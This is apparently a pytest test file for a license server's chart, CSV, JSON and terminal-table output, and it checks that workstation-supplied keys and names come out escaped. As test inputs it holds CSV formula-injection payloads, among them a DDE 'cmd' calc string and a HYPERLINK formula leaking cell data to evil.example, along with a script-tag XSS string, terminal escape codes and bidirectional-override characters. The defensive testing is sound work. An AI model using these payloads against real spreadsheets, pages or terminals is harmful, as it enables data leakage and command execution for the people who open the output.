"""Text workstations choose (license keys, machine codes, friendly names) in charts, CSV, tables, JSON."""

from __future__ import annotations

import csv
import importlib
import io
import json
import sys
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import matplotlib
import pytest
from structlog.testing import capture_logs

from license_server.audit.search import Query, search, write_csv, write_table
from license_server.cli import main
from license_server.reports import charts, plan
from license_server.reports import machines as machine_report
from license_server.reports import seats as reports
from license_server.reports.machines import MachineQuery
from license_server.reports.seats import SeatQuery
from license_server.reports.tables import write_json
from license_server.storage.seats import SqliteSeatReader
from tests.admin_support import Admin
from tests.audit_builder import TrailBuilder
from tests.conftest import PRODUCT, Upstream, Workstation
from tests.test_reports import PNG_SIGNATURE, Ledger, at

MATH_KEY = "EVIL-$\\undefinedcmd$"  # mathtext that matplotlib cannot parse
HOSTILE_KEYS = (
    MATH_KEY,
    "$x$ & $\\frac{1}{0}$",
    "<script>alert(1)</script>",
    "A&amp;B--C-",
    "EVIL\x1b[2J\x1b]0;title\x07",
    "RTL\u202eKEY\u2066\u2069\u200f",
    "C1\x9b31m\x7f",
)
# What a spreadsheet reads as a formula, and the same with a tab, a CR or a full-width sign in front.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(1)",
)
# Terminal escapes, bidirectional overrides and other characters that change what a screen shows.
UNPRINTABLE = ("\x1b", "\x07", "\x9b", "\x7f", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
DAY = 86400


def assert_inert(cell: str) -> None:
    """A cell no spreadsheet reads as a formula, and that holds only printable characters."""
    assert not cell.startswith(FORMULA_STARTS), cell
    assert cell.isprintable(), repr(cell)


def assert_well_formed_svg(data: bytes) -> str:
    """The SVG parses as XML, holds no markup or character the key smuggled in; its text."""
    ElementTree.fromstring(data)  # noqa: S314 -- the chart this project drew; expat fetches no DTD
    text = data.decode()
    assert "<script" not in text
    assert not any(char in text for char in UNPRINTABLE)
    return text


@pytest.fixture
def ledger(tmp_path: Path) -> Iterator[Ledger]:
    """An empty seat ledger in tmp_path, the state_dir."""
    built = Ledger(tmp_path)
    yield built
    built.close()


def seat_report(ledger: Ledger) -> reports.SeatReport:
    """The report of 3 November, with every change kept for a chart."""
    with SqliteSeatReader(ledger.path).snapshot() as snapshot:
        return reports.seat_report(
            snapshot, SeatQuery(since=at(3), until=at(4)), max_steps=charts.MAX_STEP_POINTS
        )


class TestCharts:
    """Keys are drawn as plain text: never mathtext or TeX, never markup in the SVG."""

    @pytest.mark.parametrize("name", ["seats.svg", "seats.png"])
    def test_a_mathtext_key_is_drawn_as_itself(
        self, ledger: Ledger, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
    ) -> None:
        """`report seats --chart` with a key like EVIL-$\\undefinedcmd$ draws it and exits 0."""
        ledger.license(2, key=MATH_KEY)
        ledger.lease("a", at(3, 8), at(3, 9), key=MATH_KEY)
        chart = tmp_path / name
        argv = ["report", "seats", "--set", f"state_dir={tmp_path}", "--since", "2026-11-03"]
        assert main([*argv, "--until", "2026-11-04", "--chart", str(chart)]) == 0
        assert MATH_KEY in capsys.readouterr().out
        data = chart.read_bytes()
        if name.endswith(".png"):
            assert data.startswith(PNG_SIGNATURE)
        else:
            assert f"{MATH_KEY} (product {PRODUCT})" in assert_well_formed_svg(data)

    @pytest.mark.parametrize("key", HOSTILE_KEYS)
    def test_the_svg_stays_well_formed_and_escaped(self, ledger: Ledger, tmp_path: Path, key: str) -> None:
        """Markup, entities, comment dashes and control characters in a key leave a well-formed SVG."""
        ledger.license(2, key=key)
        ledger.lease("a", at(3, 8), at(3, 9), key=key)
        charts.draw_seats(seat_report(ledger), tmp_path / "seats.svg")
        text = assert_well_formed_svg((tmp_path / "seats.svg").read_bytes())
        assert "limit of 2" in text

    @pytest.mark.parametrize("key", HOSTILE_KEYS)
    def test_the_demand_line_stays_escaped(self, ledger: Ledger, tmp_path: Path, key: str) -> None:
        """The console's chart with demand beside seats: the key's label is plain text in a sound SVG."""
        ledger.license(1, key=key)
        ledger.lease("a", at(3, 8), at(3, 9), key=key)
        ledger.denial("b", at(3, 8), key=key, interval=600)
        with SqliteSeatReader(ledger.path).snapshot() as snapshot:
            planned = plan.plan_report(
                snapshot, plan.PlanQuery(since=at(3), until=at(4), now=at(4), idle_days=1)
            )
        demand = {(found.product_id, found.key): found for found in planned.licenses}
        charts.draw_seats(seat_report(ledger), tmp_path / "seats.svg", demand)
        text = assert_well_formed_svg((tmp_path / "seats.svg").read_bytes())
        assert "demand, refused machines included" in text

    def test_a_matplotlibrc_asking_for_tex_does_not_apply(
        self, ledger: Ledger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """text.usetex set in matplotlib's settings does not make a key TeX: the chart is still drawn."""
        monkeypatch.setitem(matplotlib.rcParams, "text.usetex", True)
        ledger.lease("a", at(3, 8), at(3, 9), key=MATH_KEY)
        charts.draw_seats(seat_report(ledger), tmp_path / "seats.png")
        assert (tmp_path / "seats.png").read_bytes().startswith(PNG_SIGNATURE)


class TestConsoleChart:
    """The console's chart of a license whose key a workstation chose."""

    async def test_a_mathtext_key_gives_a_chart_not_a_500(
        self, admin: Admin, upstream: Upstream, workstation: Callable[..., Workstation]
    ) -> None:
        """A floating seat on a key like EVIL-$\\undefinedcmd$ is drawn on /licenses/chart.svg."""
        upstream.fake.add_license(PRODUCT, MATH_KEY, max_machines=2)
        license_key, message = await workstation("ws-math").activate(MATH_KEY, floating=600)
        assert license_key is not None, message
        await admin.settle()
        async with admin.browser() as session:
            await admin.login(session)
            async with session.get("/licenses/chart.svg", params={"days": "7"}) as r:
                assert r.status == 200
                assert r.content_type == "image/svg+xml"
                text = assert_well_formed_svg(await r.read())
        assert f"{MATH_KEY.upper()} (product {PRODUCT})" in text  # the ledger holds keys upper-case

    async def test_a_chart_that_cannot_be_drawn_is_logged_and_says_so(
        self, admin: Admin, workstation: Callable[..., Workstation], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Whatever stops the drawing, the page gets an SVG that says so and the log has the traceback."""
        license_key, message = await workstation("ws-1").activate(floating=600)
        assert license_key is not None, message
        await admin.settle()
        async with admin.browser() as session:
            await admin.login(session)
            # matplotlib loaded, then numpy hidden: the chart's own `import numpy` fails mid-drawing,
            # whichever tests ran before this one
            for module in ("matplotlib", "matplotlib.backends.backend_agg", "matplotlib.figure"):
                importlib.import_module(module)
            monkeypatch.setitem(sys.modules, "numpy", None)
            with capture_logs() as logs:
                async with session.get("/licenses/chart.svg", params={"days": "7"}) as r:
                    assert r.status == 200
                    assert r.content_type == "image/svg+xml"
                    text = assert_well_formed_svg(await r.read())
        assert "could not be drawn" in text
        (failed,) = [line for line in logs if line["event"] == "chart_failed"]
        assert failed["log_level"] == "error"
        assert failed["exc_info"] is True

    async def test_without_matplotlib_the_chart_gives_the_install_command(
        self, admin: Admin, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The console's chart names the command that installs the charts extra from the checkout."""
        monkeypatch.setitem(sys.modules, "matplotlib", None)
        async with admin.browser() as session:
            await admin.login(session)
            async with session.get("/licenses/chart.svg", params={"days": "7"}) as r:
                assert r.status == 200
                text = assert_well_formed_svg(await r.read())
        assert ".venv/bin/pip install &#x27;.[charts]&#x27;" in text
        assert "license-server[charts]" not in text


def machines_fleet(ledger: Ledger) -> None:
    """One machine per formula, each in the name, the key and the machine code; and one unprintable one."""
    for number, formula in enumerate(FORMULAS):
        ledger.machine(formula, formula, last_seen=at(3), key=formula, product=f"-{number}")
    ledger.machine("m\x1b[2J\u202e", "name\x1b]0;x\x07\u2066\u2069", last_seen=at(3), key="K\x9b\x7f")


def csv_cells(text: str) -> list[list[str]]:
    """The rows of a CSV text, header first."""
    return list(csv.reader(io.StringIO(text, newline="")))


def inert_license_rows(out: str) -> tuple[list[str], list[list[str]]]:
    """The header and rows of a per-license CSV report of FORMULAS keys: every cell inert, keys escaped."""
    header, *rows = csv_cells(out)
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        for cell in row:
            assert_inert(cell)
    keys = {row[header.index("key")] for row in rows}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")' in keys
    assert "'\\t=1+1" in keys
    assert "RTL\\u202eKEY\\x1b[2J" in keys
    assert {row[header.index("product_id")] for row in rows} == {"'+1"}
    return header, rows


class TestCsv:
    """No CSV cell starts a formula in a spreadsheet, and none carries control or bidirectional characters."""

    def test_report_machines(
        self, ledger: Ledger, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """Friendly name, key, machine code and product of `report machines --format csv` are inert."""
        machines_fleet(ledger)
        assert main(["report", "machines", "--set", f"state_dir={tmp_path}", "--format", "csv"]) == 0
        out = capsys.readouterr().out
        header, *rows = csv_cells(out)
        assert len(rows) == len(FORMULAS) + 1
        for row in rows:
            for cell in row:
                assert_inert(cell)
        by_code = {row[header.index("machine_code")]: row for row in rows}
        row = by_code["'=1+1"]
        assert (row[header.index("friendly_name")], row[header.index("key")]) == ("'=1+1", "'=1+1")
        assert row[header.index("product_id")] == "'-0"
        assert row[header.index("calls")] == "3"  # numbers stay numbers
        assert (
            by_code["m\\x1b[2J\\u202e"][header.index("friendly_name")] == "name\\x1b]0;x\\x07\\u2066\\u2069"
        )
        assert "'\uff1d1+1" in by_code

    def test_report_seats(self, ledger: Ledger, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """The key and product of `report seats --format csv` are inert; the counts stay numbers."""
        for formula in (*FORMULAS, "RTL\u202eKEY\x1b[2J"):
            ledger.lease("a", at(3, 8), at(3, 9), key=formula, product="+1")
        argv = ["report", "seats", "--set", f"state_dir={tmp_path}", "--format", "csv"]
        assert main([*argv, "--since", "2026-11-03", "--until", "2026-11-04"]) == 0
        header, rows = inert_license_rows(capsys.readouterr().out)
        assert {row[header.index("peak_seats")] for row in rows} == {"1"}

    def test_report_plan(self, ledger: Ledger, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """The key and product of `report plan --format csv` are inert; the counts stay numbers."""
        for formula in (*FORMULAS, "RTL\u202eKEY\x1b[2J"):
            ledger.lease("a", at(3, 8), at(3, 9), key=formula, product="+1")
            ledger.denial("b", at(3, 8), key=formula, product="+1", interval=1800)
        argv = ["report", "plan", "--set", f"state_dir={tmp_path}", "--format", "csv"]
        assert main([*argv, "--since", "2026-11-03", "--until", "2026-11-04"]) == 0
        header, rows = inert_license_rows(capsys.readouterr().out)
        assert {row[header.index("peak_demand")] for row in rows} == {"2"}
        assert {row[header.index("unmet_seat_hours")] for row in rows} == {"0.5"}

    def test_audit_search(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """Every text cell of `audit search --format csv` is inert; details stay JSON with exact values."""
        trail = TrailBuilder(tmp_path / "audit")
        for formula in FORMULAS:
            trail.call(key=formula, machine=formula, friendly_name=formula, client=formula, message=formula)
        trail.call(friendly_name="x\x1b[31m\u202e", message="-\x9b")
        details: dict[str, Any] = {"upstream": {"message": "=1+1\u202e\x7f"}, "note": "@x"}
        trail.add("admin", actor="=cmd|' /C calc'!A0@10.0.0.1#abc", action="login", **details)
        trail.write_head()
        assert main(["audit", "search", "--set", f"state_dir={tmp_path}", "--format", "csv"]) == 0
        header, *rows = csv_cells(capsys.readouterr().out)
        assert len(rows) == len(FORMULAS) + 2
        for row in rows:
            for cell in row:
                assert_inert(cell)
        first = dict(zip(header, rows[0], strict=True))
        assert {first[name] for name in ("key", "machine", "friendly_name", "client", "message")} == {"'=1+1"}
        assert (first["status"], first["latency_ms"]) == ("200", "12.5")
        assert dict(zip(header, rows[-2], strict=True))["friendly_name"] == "x\\x1b[31m\\u202e"
        admin = dict(zip(header, rows[-1], strict=True))
        assert admin["actor"] == "'=cmd|' /C calc'!A0@10.0.0.1#abc"
        assert json.loads(admin["details"]) == details

    @pytest.mark.parametrize("text", ["3349", "2026-11-03T08:00:00Z", "Lab PC", "'quoted", " =1", "a=b"])
    def test_ordinary_text_is_left_alone(self, tmp_path: Path, text: str) -> None:
        """Text that starts no formula is written as it is."""
        trail = TrailBuilder(tmp_path)
        trail.call(friendly_name=text)
        out = io.StringIO()
        write_csv(search(tmp_path, Query()), out)
        header, row = csv_cells(out.getvalue())
        assert row[header.index("friendly_name")] == text


class TestJson:
    """JSON output is for programs: exact values, with unprintable characters as JSON escapes."""

    def test_audit_search_json_is_exact_and_printable(self, tmp_path: Path) -> None:
        """A record with terminal escapes and bidirectional characters reads back exactly."""
        hostile = "".join(UNPRINTABLE) + "=1+1"
        trail = TrailBuilder(tmp_path)
        placed = trail.call(friendly_name=hostile, machine="\U000e0041tag", key="Büro-ключ")
        out = io.StringIO()
        write_json(search(tmp_path, Query()), out)
        line = out.getvalue()
        assert line.endswith("\n")
        assert line[:-1].isprintable()
        assert json.loads(line) == placed.record
        assert "Büro-ключ" in line  # readable text stays readable
        assert "\\u202e" in line

    def test_reports_json_is_exact_and_printable(self, ledger: Ledger) -> None:
        """`report machines --format json` carries the ledger's exact values, escaped."""
        machines_fleet(ledger)
        with SqliteSeatReader(ledger.path).snapshot() as snapshot:
            rows = machine_report.machines(snapshot, MachineQuery(now=at(4)))
        out = io.StringIO()
        machine_report.write_machines(rows, out, "json")
        lines = out.getvalue().splitlines()
        assert all(line.isprintable() for line in lines)
        assert [json.loads(line) for line in lines] == rows


class TestTables:
    """The terminal tables show unprintable characters as visible escapes; none reaches the terminal."""

    def test_plan_table_and_json(self, ledger: Ledger) -> None:
        """The plan table with its advice lines, and its JSON lines: escaped, JSON exact."""
        hostile = "x" + "".join(UNPRINTABLE)
        ledger.lease("a", at(3, 8), at(3, 9), key=hostile, product=hostile)
        ledger.denial(hostile, at(3, 8), key=hostile, product=hostile, interval=60)
        ledger.machine(hostile, hostile, last_seen=at(1), key=hostile, product=hostile, floating=False)
        with SqliteSeatReader(ledger.path).snapshot() as snapshot:
            report = plan.plan_report(
                snapshot, plan.PlanQuery(since=at(3), until=at(4), now=at(4), idle_days=1)
            )
        table, lines = io.StringIO(), io.StringIO()
        plan.write_plan(report, table, "table")
        assert table.getvalue().replace("\n", "").isprintable()
        assert "x\\x1b\\x07\\x9b\\x7f\\u202e" in table.getvalue()
        assert "1 idle node-locked machines to free" in table.getvalue()
        plan.write_plan(report, lines, "json")
        (line,) = lines.getvalue().splitlines()
        assert line.isprintable()
        assert json.loads(line) == report.licenses[0].as_dict()
        assert json.loads(line)["key"] == hostile

    def test_audit_table(self, tmp_path: Path) -> None:
        """Key, machine, name, client and message of a call; an admin record's details."""
        hostile = "x" + "".join(UNPRINTABLE)
        trail = TrailBuilder(tmp_path)
        trail.call(key=hostile, machine=hostile, friendly_name=hostile, client=hostile, message=hostile)
        trail.add("admin", actor=hostile, action="login", note=hostile)
        out = io.StringIO()
        write_table(search(tmp_path, Query()), out)
        assert out.getvalue().replace("\n", "").isprintable()
        assert "x\\x1b\\x07\\x9b" in out.getvalue()

    def test_report_tables(self, ledger: Ledger) -> None:
        """The seat table, its summary lines, and the machines table."""
        hostile = "x" + "".join(UNPRINTABLE)
        ledger.lease("a", at(3, 8), at(3, 9), key=hostile)
        ledger.machine(hostile, hostile, last_seen=at(3), key=hostile)
        out = io.StringIO()
        reports.write_seats(seat_report(ledger), out, "table")
        with SqliteSeatReader(ledger.path).snapshot() as snapshot:
            machine_report.write_machines(
                machine_report.machines(snapshot, MachineQuery(now=at(4))), out, "table"
            )
        assert out.getvalue().replace("\n", "").isprintable()
        assert "x\\x1b\\x07\\x9b\\x7f\\u202e" in out.getvalue()
